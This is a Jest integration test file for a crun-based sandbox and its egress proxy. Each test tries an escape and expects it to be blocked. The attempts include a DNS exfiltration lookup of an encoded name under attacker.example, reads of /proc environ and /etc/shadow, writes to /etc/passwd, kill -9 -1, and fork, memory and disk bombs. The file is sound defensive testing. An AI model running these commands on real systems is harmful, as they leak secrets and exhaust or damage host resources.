import { randomUUID } from 'node:crypto';
import { rmSync } from 'node:fs';
import { createConnection } from 'node:net';
import { EgressAuditBatcher, type EgressBatch } from '../src/egress/egress.audit';
import { EgressService } from '../src/egress/egress.service';
import { CrunRuntime } from '../src/runtime/crun.runtime';
import type { ExecRequest, ExecResult, SandboxLimits } from '../src/runtime/runtime.port';
import { dnsProbeCode, refusedLookupRecorded } from './egress-dns.probe';

/**
 * Ways out of a sandbox (agent-path.md), each a test that fails if the door opens, on the
 * real crun runtime of this machine, each sandbox in its network namespace whose only way
 * out is its egress proxy and its resolver (here with one rule, for a name that has no
 * upstream). The proxy's own classes (SNI ≠ CONNECT target, Host, redirects, WebSocket,
 * addresses, injection) are in egress.int.spec.ts.
 */
jest.setTimeout(60_000);

const LIMITS: SandboxLimits = { cpuMillis: 500, memoryMb: 128, pids: 48, workspaceMb: 16, timeoutMs: 30_000 };
const INSTANCE = `esc${process.pid}`;
// the sandboxes' real network: a namespace whose only way out is the egress proxy, one rule (allowed.test, no upstream)
const batches: EgressBatch[] = [];
const audit = new EgressAuditBatcher(async (b) => void batches.push(b), { intervalMs: 200 });
const resolvedByProxy: string[] = [];
const egress = new EgressService({
  instance: INSTANCE,
  context: async () => ({ tenantId: 't', sessionId: 's', rules: [{ id: 'allowed', host: 'allowed.test' }] }),
  leases: { value: async () => Promise.reject(new Error('no secret here')) },
  audit,
  resolve: async (name) => (resolvedByProxy.push(name), []),
});
const runtime = new CrunRuntime({ crun: process.env.SANDBOX_CRUN ?? 'crun', runDir: '/run/palisade-sandbox-test', instance: INSTANCE, egress });
const A = randomUUID();
const B = randomUUID();
const HOST_MARKER = `host-secret-${randomUUID()}`;

function run(sandbox: string, argv: string[], extra: Partial<ExecRequest> = {}): Promise<ExecResult> {
  return runtime.exec(sandbox, randomUUID(), { argv, timeoutMs: LIMITS.timeoutMs, outputCapBytes: 256 * 1024, ...extra }).result;
}
const py = (code: string, extra: Partial<ExecRequest> = {}) => run(A, ['/usr/bin/python3', '-c', code], extra);
const sh = (script: string, extra: Partial<ExecRequest> = {}) => run(A, ['/bin/sh', '-c', script], extra);
const out = (r: ExecResult) => r.stdout.toString().trim();

/** Prints `connected` or the error's name of a TCP/UDP attempt from inside. */
const CONNECT = `
import socket, sys
family = socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    print('connected')
except OSError as e:
    print('refused', e.errno)
`;
const connect = (host: string, port: number) => run(A, ['/usr/bin/python3', '-c', CONNECT, host, String(port)]);

function hostReaches(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = createConnection({ host: '127.0.0.1', port, timeout: 3000 });
    socket.once('connect', () => (socket.destroy(), resolve(true)));
    socket.once('error', () => resolve(false));
    socket.once('timeout', () => (socket.destroy(), resolve(false)));
  });
}

const doors: string[] = [];
const closed = new Set<string>();
function door(name: string, test: () => Promise<void>): void {
  doors.push(name);
  it(name, async () => {
    await test();
    closed.add(name);
  });
}

beforeAll(async () => {
  process.env.PALISADE_ESCAPE_MARKER = HOST_MARKER; // in the orchestrator's environment: must not reach a sandbox
  await runtime.check();
  await egress.warm(); // both sandboxes get prepared (pooled) networks
  expect(egress.pooled).toBeGreaterThanOrEqual(2);
  await runtime.create(A, LIMITS);
  await runtime.create(B, LIMITS);
});

afterAll(async () => {
  await runtime.reconcile(new Set()); // the sandboxes and the pool's waiting networks
  await audit.close();
  rmSync(`/run/palisade-sandbox-test/${INSTANCE}`, { recursive: true, force: true });
  const rows = doors.map((name) => ({ escape: name, result: closed.has(name) ? 'closed' : 'OPEN or not run' }));
  console.log(`${rows.map((r) => `${r.result.padEnd(16)} ${r.escape}`).join('\n')}\nescape_tests_passed: ${closed.size}/${doors.length}`);
});

describe('escapes from a sandbox', () => {
  door('direct connection to the host’s PostgreSQL (127.0.0.1:5432)', async () => {
    expect(await hostReaches(5432)).toBe(true); // it is there, seen from the host
    expect(out(await connect('127.0.0.1', 5432))).toMatch(/^refused/);
  });

  door('direct connection to the host’s NATS (127.0.0.1:4222)', async () => {
    expect(await hostReaches(4222)).toBe(true);
    expect(out(await connect('127.0.0.1', 4222))).toMatch(/^refused/);
  });

  door('direct connection to an external IP and the metadata address', async () => {
    expect(out(await connect('1.1.1.1', 443))).toBe('refused 101'); // ENETUNREACH: no route at all
    expect(out(await connect('169.254.169.254', 80))).toBe('refused 101');
    expect(out(await connect('10.0.0.1', 80))).toBe('refused 101');
  });

  door('IPv6 connections', async () => {
    expect(out(await connect('2606:4700:4700::1111', 443))).toBe('refused 101');
    expect(out(await connect('::1', 5432))).toMatch(/^refused/); // its own loopback, not the host's
  });

  door('the host through the sandbox’s link (its ports but the proxy’s), and the proxy without a rule', async () => {
    const proxy = /^http:\/\/([\d.]+):(\d+)$/.exec(out(await sh('echo $HTTPS_PROXY')));
    expect(proxy).not.toBeNull();
    const [, hostEnd, proxyPort] = proxy!;
    for (const port of [22, 5432, 4222, 2024]) expect([port, out(await connect(hostEnd!, port))]).toEqual([port, expect.stringMatching(/^refused/)]);
    expect(out(await connect(hostEnd!, Number(proxyPort)))).toBe('connected'); // the proxy, and only it
    const r = await sh(`curl -s -o /dev/null -w '%{http_code}' --max-time 5 https://example.com/; echo " exit=$?"; curl -s -o /dev/null -w '%{http_code}' --max-time 5 http://169.254.169.254/latest/meta-data/`);
    expect(out(r)).toBe('000 exit=56\n403'); // CONNECT refused by the proxy (403), metadata refused (default deny)
  });

  door('DNS exfiltration (a lookup of <data>.attacker.example, through the resolver and straight to a public one)', async () => {
    const exfiltrating = 'ZXhmaWx0cmF0ZWQ.attacker.example';
    const r = await py(`${dnsProbeCode(exfiltrating)}
${dnsProbeCode('allowed.test')}
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'x', ('8.8.8.8', 53))
    print('sent')
except OSError as e:
    print('unsent', e.errno)
`);
    const hostEnd = /^http:\/\/([\d.]+):/.exec(out(await sh('echo $HTTPS_PROXY')))![1]!;
    // refused (NXDOMAIN) by the sandbox's resolver; the allowed name is the proxy's own address; no other resolver is reachable
    expect(out(r).split('\n')).toEqual(['failed -2', `resolved ${hostEnd}`, 'unsent 101']);
    expect(resolvedByProxy.filter((n) => n.includes('attacker'))).toEqual([]); // nothing was looked up outside: the resolver has no upstream
    await audit.flush();
    const refused = batches.flatMap((b) => b.decisions).filter((d) => d.stage === 'dns');
    expect(refused).toContainEqual(expect.objectContaining({ outcome: 'denied', host: exfiltrating, rule: 'default-deny', reason: 'no rule allows the name' }));
    expect(refusedLookupRecorded(batches, exfiltrating)).toBe(true);
    expect(refusedLookupRecorded(batches, 'allowed.test')).toBe(false);
  });

  door('direct connections ignoring the proxy variables (by name through the resolver, by IP)', async () => {
    const r = await sh([
      // allowed.test resolves to the proxy's own address, which decides by SNI (and finds no public address for it here)
      `curl -sS --noproxy '*' --max-time 5 https://allowed.test/ 2>/dev/null; echo "exit=$?"`,
      `curl -sS --noproxy '*' --max-time 5 http://allowed.test/ -o /dev/null -w '%{http_code} '; echo "exit=$?"`,
      `curl -sS --noproxy '*' --max-time 5 https://not-allowed.example/ 2>/dev/null; echo "exit=$?"`,
      `curl -sS --noproxy '*' --max-time 5 https://1.1.1.1/ 2>/dev/null; echo "exit=$?"`,
    ].join('; '));
    // TLS closed by the proxy (35: no public address for the name); http: no rule for http on allowed.test (403); NXDOMAIN (6); no route (7)
    expect(out(r).split('\n')).toEqual(['exit=35', '403 exit=0', 'exit=6', 'exit=7']);
    expect([...new Set(resolvedByProxy)]).toEqual(['allowed.test']); // the proxy looks up the allowed name only (to no public address here)
  });

  door('writes to the root filesystem', async () => {
    const r = await sh('for f in /usr/bin/pwned /etc/passwd /pwned /bin/sh /etc/ssl/certs/pwned; do (echo x > "$f") 2>/dev/null && echo "wrote $f"; done; echo done');
    expect(out(r)).toBe('done');
  });

  door('the host’s /proc (pid 1’s environment, other processes) and environment', async () => {
    const r = await sh(`cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; echo; env; ls /proc | grep -c '^[0-9]'`);
    expect(r.stdout.toString()).not.toContain(HOST_MARKER);
    expect(r.stdout.toString()).not.toMatch(/PALISADE_|PGPASSWORD|NATS_|DATABASE_URL/);
    const processes = Number(r.stdout.toString().trim().split('\n').pop());
    expect(processes).toBeLessThan(10); // its own few, not the host's hundreds
  });

  door('the host’s files (/work, /root, /home, .palisade, PostgreSQL data, /tmp)', async () => {
    // /run is the sandbox's own: only the mount point of the warm pool's control directory (WARM_CONTROL), none of the host's
    const r = await sh('for p in /work /root /home /var/lib/postgresql /var /run/netns /run/palisade-sandbox /run/postgresql /opt /work/main/.palisade/pki/ca.key /etc/shadow /etc/ssh; do test -e "$p" && echo "sees $p"; done; ls -A /run 2>/dev/null | grep -vx psbx | sed "s|^|sees /run/|"; ls /tmp | wc -l');
    expect(out(r)).toBe('0');
  });

  door('another sandbox’s processes', async () => {
    const marker = `other-sandbox-${randomUUID()}`;
    const other = runtime.exec(B, randomUUID(), { argv: ['/bin/sh', '-c', `sleep 20 # ${marker}`], timeoutMs: 30_000, outputCapBytes: 1024 });
    await new Promise((r) => setTimeout(r, 1000));
    const seen = await sh(`cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; echo; kill -9 -1 2>/dev/null; echo killed-all`);
    expect(seen.stdout.toString()).not.toContain(marker);
    other.kill();
    expect(await other.result).toMatchObject({ reason: 'killed' }); // our kill, not the other sandbox's kill -1
  });

  door('setuid binaries, capabilities, raw sockets and new namespaces', async () => {
    const r = await py(`
import os, socket, subprocess
print('caps', open('/proc/self/status').read().split('CapEff:')[1].split()[0])
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('raw socket')
except OSError as e:
    print('no raw socket', e.errno)
for argv in (['unshare', '-U', 'true'], ['unshare', '-r', 'true'], ['su', '-c', 'id'], ['mount', '-t', 'tmpfs', 'x', '/tmp']):
    try:
        print(argv[0], subprocess.run(argv, capture_output=True, stdin=subprocess.DEVNULL, timeout=10).returncode != 0)
    except FileNotFoundError:
        print(argv[0], True)
print('uid', os.getuid(), os.geteuid())
`);
    expect(out(r)).toBe('caps 0000000000000000\nno raw socket 1\nunshare True\nunshare True\nsu True\nmount True\nuid 1000 1000');
  });

  door('dangerous system calls (ptrace, mount, keyring, bpf, userfaultfd, io_uring, setns, perf, kexec)', async () => {
    const calls = { ptrace: 101, mount: 165, keyctl: 250, add_key: 248, request_key: 249, bpf: 321, userfaultfd: 323, io_uring_setup: 425, unshare: 272, setns: 308, perf_event_open: 298, kexec_load: 246 };
    const result = await run(A, ['/usr/bin/python3', '-c', `
import ctypes, json, sys
libc = ctypes.CDLL(None, use_errno=True)
for name, nr in json.loads(sys.argv[1]).items():
    rc = libc.syscall(nr, 0, 0, 0, 0, 0)
    print(name, rc, ctypes.get_errno())
`, JSON.stringify(calls)]);
    expect(out(result).split('\n')).toEqual(Object.keys(calls).map((name) => `${name} -1 1`)); // EPERM from seccomp
  });

  door('fork bomb (pids limit)', async () => {
    const r = await py(`
import os, time
n = 0
try:
    while n < 10000:
        if os.fork() == 0:
            time.sleep(30); os._exit(0)
        n += 1
except OSError as e:
    print('stopped', n, e.errno)
`, { timeoutMs: 20_000 });
    const [word, forks, errno] = out(r).split(' ');
    expect(word).toBe('stopped');
    expect(Number(forks)).toBeLessThan(LIMITS.pids);
    expect(errno).toBe('11'); // EAGAIN from the pids controller
    expect(out(await sh('echo alive'))).toBe('alive'); // the sandbox still works after it
  });

  door('memory bomb (OOM reported)', async () => {
    const r = await py('chunks = []\nwhile True: chunks.append(bytearray(16 * 1024 * 1024))');
    expect(r.reason).toBe('oom');
    expect(r.usage.peakMemoryBytes).toBeLessThanOrEqual(LIMITS.memoryMb * 1024 * 1024);
  });

  door('disk fill of the workspace and /tmp (size caps)', async () => {
    const r = await sh('dd if=/dev/zero of=/workspace/fill bs=1M count=200 2>/dev/null; echo ws=$?; du -m /workspace/fill | cut -f1; dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; echo tmp=$?; rm -f /workspace/fill');
    const [ws, wsMb, tmp] = out(r).split('\n');
    expect(ws).not.toBe('ws=0');
    expect(Number(wsMb)).toBeLessThanOrEqual(LIMITS.workspaceMb);
    expect(tmp).not.toBe('tmp=0');
  });

  door('CPU spin past the timeout (killed, within its CPU quota)', async () => {
    const r = await sh('while :; do :; done', { timeoutMs: 2000 });
    expect(r.reason).toBe('timeout');
    expect(r.signal).toBe('SIGKILL');
    // half a core: the spin got at most its quota of the wall time (generous slack for a busy machine)
    expect(r.usage.cpuSeconds).toBeLessThan(r.usage.wallSeconds * (LIMITS.cpuMillis / 1000) + 0.5);
  });
});
